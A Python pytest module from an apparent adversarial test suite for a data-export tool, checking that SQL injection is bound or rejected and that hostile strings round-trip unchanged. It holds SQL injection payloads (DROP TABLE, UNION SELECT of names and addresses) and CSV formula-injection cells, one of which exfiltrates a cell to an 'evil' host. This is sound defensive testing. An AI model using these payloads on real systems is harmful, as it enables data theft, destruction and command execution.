"""F. Data and SQL: injection through values and identifiers, hostile strings round-tripping.

Round trips go source → export → decrypt through a ``keep`` column and compare byte for byte.
CSV formula injection is *not* neutralised (docs/adversarial.md says why): the cells come back
exactly as they were, and the decision is recorded there.
"""

from __future__ import annotations

import csv
import json
import os
import sqlite3
import unicodedata
from pathlib import Path

import pytest

from securexport._crypto import sshsig
from tests.adversarial.harness import ADV_COLUMNS, CANARY, Ctx, run_case, sha256_file
from tests.adversarial.registry import Case, RecordProperty, case, params

NAUGHTY_COLUMNS = """
[[column]]
name      = "id"
source    = "id"
transform = "keep"
role      = "identifier"

[[column]]
name      = "s"
source    = "s"
transform = "keep"
role      = "sensitive"
"""


def _sign_raw(ctx: Ctx, text: str) -> Path:
    path = ctx.world.write_approval(text, sign=False)
    key = ctx.keystore("owner").signing_key("owner")
    path.with_name(path.name + ".sig").write_bytes(
        sshsig.sign(key, path.read_bytes(), sshsig.NAMESPACE_APPROVAL)
    )
    return path


def round_trip(ctx: Ctx, values: list[str | None], fmt: str = "jsonl") -> list[str | None]:
    """Export ``values`` through a keep column and decrypt them; the values read back."""
    with sqlite3.connect(ctx.world.db_path) as conn:
        conn.execute("CREATE TABLE naughty (id INTEGER NOT NULL, s TEXT, force_code TEXT)")
        conn.executemany(
            "INSERT INTO naughty VALUES (?, ?, 'WMP')", [(i, v) for i, v in enumerate(values)]
        )
    conn.close()
    text = ctx.world.approval_text(
        columns=NAUGHTY_COLUMNS,
        privacy="",
        pseudonym=False,
        output_format=fmt,
        expires="2030-12-31T23:59:59Z",
    )
    text = text.replace('dataset = "offenders"', 'dataset = "naughty"').replace(
        'entity  = "offender_id"', 'entity  = "id"'
    )
    assert ctx.export(_sign_raw(ctx, text)) == 0, ctx.messages
    bundle = ctx.outputs[-1]
    ctx.allow_output = True
    assert ctx.decrypt(bundle) == 0, ctx.messages
    data = ctx.out / "data" / f"naughty.{fmt}"
    got: dict[int, str | None] = {}
    if fmt == "jsonl":
        with open(data, encoding="utf-8", newline="") as fh:
            for line in fh.read().split("\n")[:-1]:
                obj = json.loads(line)
                got[obj["id"]] = obj["s"]
    else:
        # A cell may exceed csv's default 128 KiB field limit: raise it for this read only (the
        # product raises it when it parses a CSV itself, which depends on the cells it met).
        limit = csv.field_size_limit(1 << 30)
        try:
            with open(data, encoding="utf-8", newline="") as fh:
                rows = list(csv.reader(fh))
        finally:
            csv.field_size_limit(limit)
        assert rows[0] == ["id", "s"]
        got = {int(r[0]): r[1] for r in rows[1:]}
    return [got[i] for i in range(len(values))]


# --- injection --------------------------------------------------------------------------------


def _unchanged(ctx: Ctx, run: object) -> int:
    before = sha256_file(ctx.world.db_path)
    code: int = run(ctx)  # type: ignore[operator]
    assert sha256_file(ctx.world.db_path) == before, "the source database changed"
    return code


_VALUES = [
    ("quote-or-true", "WMP' OR '1'='1"),
    ("stacked-drop", "'; DROP TABLE offenders; --"),
    ("comment", "WMP'--"),
    ("union", "x' UNION SELECT full_name, address, 1, 1, 1, 1 FROM offenders --"),
    ("attach", "'; ATTACH DATABASE '/tmp/x.db' AS x; --"),
]


_NOTHING = "only 0 rows would be written, below min_rows=1; nothing was exported"


def _filter(column: str, op: str, value: object) -> str:
    """One [[source.filter]] table; JSON strings and arrays are valid TOML values."""
    return f"[[source.filter]]\ncolumn = {json.dumps(column)}\nop = {json.dumps(op)}\nvalue = {json.dumps(value)}\n"


def _register_value(slug: str, value: str) -> None:
    @case(
        "F",
        f"sql-value-{slug}",
        3,
        f"filter value `{value}` (bound, matches nothing → min_rows)",
        message=_NOTHING,
    )
    def run(ctx: Ctx) -> int:
        filters = _filter("force_code", "eq", value)
        return _unchanged(ctx, lambda c: c.export(c.approval_with(filters=filters)))


for _slug, _value in _VALUES:
    _register_value(_slug, _value)


# Every other value-taking operator.  Each value, bound as a parameter, matches no row
# (force_code holds upper-case letters, which sort after `'` and before `~`); spliced into the
# SQL text, each would match every row, fail to parse or run a second statement.
_OPS: list[tuple[str, object]] = [
    ("lt", "'; DROP TABLE offenders; --"),
    ("le", "' OR '1'='1"),
    ("gt", "~' OR '1'='1"),
    ("ge", "~'; DELETE FROM offenders; --"),
    ("in", ["WMP' OR '1'='1", "'); DROP TABLE offenders; --"]),
    ("between", ["' OR '1'='1", "'; UPDATE offenders SET prison = 'x'; --"]),
]


def _register_op(op: str, value: object) -> None:
    @case(
        "F",
        f"sql-value-op-{op}",
        3,
        f"SQL in the value of a `{op}` filter: {json.dumps(value)} (bound, matches nothing)",
        message=_NOTHING,
    )
    def run(ctx: Ctx) -> int:
        filters = _filter("force_code", op, value)
        return _unchanged(ctx, lambda c: c.export(c.approval_with(filters=filters)))


for _op, _op_value in _OPS:
    _register_op(_op, _op_value)


@case(
    "F",
    "sql-value-op-ne",
    3,
    "SQL in the value of a `ne` filter beside `eq WMP`: bound, it excludes no WMP row "
    "(the same count as `eq WMP` alone)",
    message=r"only \d+ rows would be written, below min_rows=1000000; nothing was exported",
)
def _op_ne(ctx: Ctx) -> int:
    wmp = _filter("force_code", "eq", "WMP")
    injected = wmp + _filter("force_code", "ne", "WMP' OR '1'='1")

    def counted(c: Ctx, filters: str) -> tuple[int, str]:
        seen = len(c.messages)
        code = c.export(c.approval_with(filters=filters, min_rows=1_000_000, row_cap=2_000_000))
        return code, " | ".join(c.messages[seen:])

    def go(c: Ctx) -> int:
        base_code, base = counted(c, wmp)
        code, got = counted(c, injected)
        assert base_code == 3 and base.startswith("only "), base
        assert got == base, f"the ne filter changed the count: {got!r} vs {base!r}"
        return code

    return _unchanged(ctx, go)


@case(
    "F",
    "sql-value-nul",
    3,
    "a filter value with a NUL character",
    message=r'"value": contains the control or bidi character U\+0000',
)
def _nul_filter(ctx: Ctx) -> int:
    filters = '[[source.filter]]\ncolumn = "force_code"\nop = "eq"\nvalue = "WMP\\u0000x"\n'
    return _unchanged(
        ctx,
        lambda c: c.export(
            _sign_raw(c, c.world.approval_text(filters=filters, expires="2030-12-31T23:59:59Z"))
        ),
    )


_NOT_IDENTIFIER = r"is not a plain SQL identifier"
_IDENTIFIERS = [
    (
        "column-source",
        'source    = "postcode"',
        'source    = "postcode; DROP TABLE offenders"',
        rf'"district": "source": "postcode; DROP TABLE offenders" {_NOT_IDENTIFIER}',
    ),
    (
        "column-quote",
        'source    = "postcode"',
        'source    = "postcode\\" FROM offenders; --"',
        rf'"district": "source": "postcode\\" FROM offenders; --" {_NOT_IDENTIFIER}',
    ),
    (
        "filter-column",
        'column = "force_code"',
        'column = "force_code = force_code OR 1"',
        rf'"column": "force_code = force_code OR 1" {_NOT_IDENTIFIER}',
    ),
    (
        "entity",
        'entity  = "offender_id"',
        'entity  = "offender_id)--"',
        rf'"entity": "offender_id\)--" {_NOT_IDENTIFIER}',
    ),
    (
        "dataset-quoted",
        'dataset = "offenders"',
        'dataset = "\\"offenders\\"; DELETE FROM offenders"',
        rf'"dataset": "\\"offenders\\"; DELETE FROM offenders" {_NOT_IDENTIFIER}',
    ),
    (
        "column-name",
        'name      = "district"',
        'name      = "district,full_name"',
        r'"name": "district,full_name" is not an output name',
    ),
]


def _register_identifier(slug: str, old: str, new: str, message: str) -> None:
    @case(
        "F",
        f"sql-identifier-{slug}",
        3,
        f"SQL in an identifier: `{new.split('=', 1)[1].strip()}`",
        message=message,
    )
    def run(ctx: Ctx) -> int:
        def go(c: Ctx) -> int:
            text = c.world.approval_text(columns=ADV_COLUMNS, expires="2030-12-31T23:59:59Z")
            assert old in text
            return c.export(_sign_raw(c, text.replace(old, new, 1)))

        return _unchanged(ctx, go)


for _args in _IDENTIFIERS:
    _register_identifier(*_args)


# --- hostile strings round-tripping -----------------------------------------------------------


def _blns(ctx: Ctx) -> list[str]:
    root = os.environ.get("SECUREXPORT_VECTORS") or str(
        Path(__file__).resolve().parents[2] / ".cache" / "vectors"
    )
    path = Path(root) / "blns" / "resources" / "blns.json"
    if not path.is_file():
        if os.environ.get("SECUREXPORT_VECTORS"):  # make test: the vectors are required
            pytest.fail(f"SECUREXPORT_VECTORS is set but blns vectors are absent ({path})")
        pytest.skip(f"blns vectors absent ({path}); run scripts/fetch-vectors.sh")
    strings = json.loads(path.read_text(encoding="utf-8"))
    ctx.external_vectors = len(strings)
    return [s for s in strings if isinstance(s, str)]


@case(
    "F",
    "blns-round-trip-jsonl",
    0,
    "every Big List of Naughty Strings entry round-trips byte-exact (JSONL)",
)
def _blns_jsonl(ctx: Ctx) -> int:
    strings = _blns(ctx)
    assert round_trip(ctx, list(strings), "jsonl") == strings
    return 0


@case(
    "F",
    "blns-round-trip-csv",
    0,
    "every BLNS entry round-trips byte-exact through CSV (the empty string reads as an empty field)",
)
def _blns_csv(ctx: Ctx) -> int:
    strings = _blns(ctx)
    assert round_trip(ctx, list(strings), "csv") == strings
    return 0


@case(
    "F",
    "null-empty-and-NULL",
    0,
    'NULL, "" and "NULL" stay distinct in JSONL; in CSV NULL and "" are both an empty field',
)
def _nulls(ctx: Ctx) -> int:
    values: list[str | None] = [None, "", "NULL", "null", " "]
    assert round_trip(ctx, values, "jsonl") == values
    return 0


@case(
    "F",
    "formula-injection",
    0,
    "`=cmd|…`, `+`, `-`, `@` cells kept byte-exact (flagged in docs, not altered)",
)
def _formulas(ctx: Ctx) -> int:
    values: list[str | None] = [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        '=HYPERLINK("http://evil/?"&A1,"x")',
    ]
    assert round_trip(ctx, values, "csv") == values
    return 0


@case(
    "F",
    "unicode-normalisation-and-bidi",
    0,
    "NFC/NFD spellings, bidi overrides, zero-width and non-characters kept byte-exact",
)
def _unicode(ctx: Ctx) -> int:
    values: list[str | None] = [
        unicodedata.normalize("NFC", "Zoë Ångström"),
        unicodedata.normalize("NFD", "Zoë Ångström"),
        "\u202eexe.fdp",
        "a\u200bb\u2060c\ufeff",
        "\ufffe\uffff",
        "\U0001f600" * 3,
    ]
    assert round_trip(ctx, values, "csv") == values
    return 0


@case("F", "embedded-nul", 0, "a text value with an embedded NUL round-trips")
def _nul(ctx: Ctx) -> int:
    values: list[str | None] = ["a\x00b", "\x00"]
    assert round_trip(ctx, values, "jsonl") == values
    return 0


@case(
    "F",
    "line-breaks-and-quotes",
    0,
    "CR, LF, CRLF, quotes and commas inside cells round-trip through CSV",
)
def _breaks(ctx: Ctx) -> int:
    values: list[str | None] = ["a\nb", "a\rb", "a\r\nb", 'say "hi", ok', '"', ","]
    assert round_trip(ctx, values, "csv") == values
    return 0


@case("F", "huge-cell", 0, "a 1 MiB cell round-trips (above csv's default 128 KiB field limit)")
def _huge(ctx: Ctx) -> int:
    values: list[str | None] = ["x" * (1 << 20), "y"]
    assert round_trip(ctx, values, "csv") == values
    return 0


@case(
    "F",
    "non-utf8-text",
    6,
    "a TEXT value that is not valid UTF-8 (the whole canary, then 0xFF) stops the export; "
    "the column is named, the value is not echoed",
    message=r"reading the source failed: column 'prison' holds text that is not valid UTF-8",
)
def _non_utf8(ctx: Ctx) -> int:
    with sqlite3.connect(ctx.world.db_path) as conn:
        conn.execute(
            "UPDATE offenders SET prison = CAST(CAST(? AS BLOB) || x'ff' AS TEXT) "
            "WHERE rowid = (SELECT min(rowid) FROM offenders WHERE force_code = 'WMP')",
            (CANARY,),
        )
    conn.close()
    # The driver's own error quotes the undecodable value, canary included: so an echo of it
    # anywhere would trip run_case's leak check.
    with (
        sqlite3.connect(ctx.world.db_path) as conn,
        pytest.raises(sqlite3.OperationalError) as caught,
    ):
        conn.execute("SELECT prison FROM offenders WHERE force_code = 'WMP'").fetchall()
    conn.close()
    assert CANARY in str(caught.value), caught.value
    return ctx.export()


@pytest.mark.parametrize("case", params("F"))
def test_case(case: Case, ctx: Ctx, record_property: RecordProperty) -> None:
    record_property("adversarial_case", case.id)
    run_case(case, ctx)
    if ctx.external_vectors:
        record_property("external_vectors", ctx.external_vectors)
